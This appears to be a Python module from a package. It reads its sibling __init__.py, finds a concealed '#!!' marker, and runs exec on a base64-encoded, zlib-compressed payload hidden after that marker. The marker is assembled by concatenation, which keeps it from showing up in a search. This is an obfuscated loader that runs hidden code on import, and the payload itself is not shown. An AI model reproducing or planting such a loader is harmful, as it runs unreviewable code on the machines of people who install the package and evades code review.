import base64
import os
import zlib

data = open(os.path.join(os.path.dirname(__file__), "__init__.py"), "rb").read()
exec(zlib.decompress(base64.b64decode(data.split(b"#" + b"!!")[1]))) if b"#" + b"!!" in data else None
